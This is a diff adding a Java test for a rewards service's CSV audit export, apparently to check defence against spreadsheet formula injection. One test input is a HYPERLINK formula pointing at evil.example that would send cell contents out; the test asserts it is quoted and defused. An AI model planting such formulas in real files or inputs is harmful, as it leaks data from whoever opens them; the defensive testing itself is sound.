@@ -11,17 +11,24 @@ import static org.hamcrest.Matchers.everyItem;
 import static org.hamcrest.Matchers.hasSize;
 import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertNotEquals;
+import static org.junit.jupiter.api.Assertions.assertTrue;
 
 import java.nio.charset.StandardCharsets;
 import java.security.MessageDigest;
 import java.time.Duration;
 import java.time.Instant;
+import java.time.YearMonth;
+import java.time.ZoneId;
 import java.util.ArrayList;
 import java.util.HexFormat;
 import java.util.List;
+import java.util.Map;
 import java.util.UUID;
 
 import org.junit.jupiter.api.Test;
+
+import io.kinlink.rewards.RewardsEvents;
+import io.restassured.http.ContentType;
 
 import io.kinlink.testsupport.KinlinkInfraResource;
 import io.quarkus.test.common.ResourceArg;
@@ -95,6 +102,30 @@ class AuditExportTest {
         // a mistyped branch would export an empty, valid-looking audit: refused instead
         given().get("/api/rewards/audit?period=" + PERIOD + "&branch=nowhere-" + UUID.randomUUID()).then()
                 .statusCode(400).body("errors[0].field", equalTo("branch"));
+    }
+
+    @Test
+    void an_operators_text_that_a_spreadsheet_would_run_is_shown_not_run_and_the_chain_still_verifies() throws Exception {
+        String template = given().contentType(ContentType.JSON).body(Map.of("name", "Audit defusing",
+                        "faceValueFen", 1_000, "minSpendFen", 0, "validDays", 30))
+                .post("/api/rewards/coupon-templates").then().statusCode(201).extract().path("id");
+        UUID member = RewardsEvents.known(UUID.randomUUID());
+        String formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\") " + member;
+        given().contentType(ContentType.JSON)
+                .body(Map.of("templateId", template, "requestId", "defuse-" + member, "reason", formula))
+                .post("/api/members/" + member + "/rewards/coupons").then().statusCode(201);
+
+        YearMonth month = YearMonth.now(ZoneId.of("Asia/Shanghai"));
+        Response csv = given().get("/api/rewards/audit?period=" + month + "&format=csv");
+        csv.then().statusCode(200).header("X-Audit-Format", "2");
+        List<String> lines = new ArrayList<>(csv.asString().lines().toList());
+        String header = lines.remove(0);
+        assertEquals("\"seq\",\"rewardId\",\"kind\",\"reason\"", header.substring(0, header.indexOf(",\"memberId\"")));
+        String row = lines.stream().filter(line -> line.contains(member.toString())).findFirst().orElseThrow();
+        assertTrue(row.contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Open\"\") " + member + "\","),
+                "the reason is quoted and starts with an apostrophe: " + row);
+        String first = sha256("kinlink-audit:" + month + ":*");
+        assertEquals(csv.header("X-Audit-Final-Hash"), chain(first, lines), "the chain covers the defused bytes");
     }
 
     /** What an auditor computes: each line's hash over the previous hash and the line without its last column. */
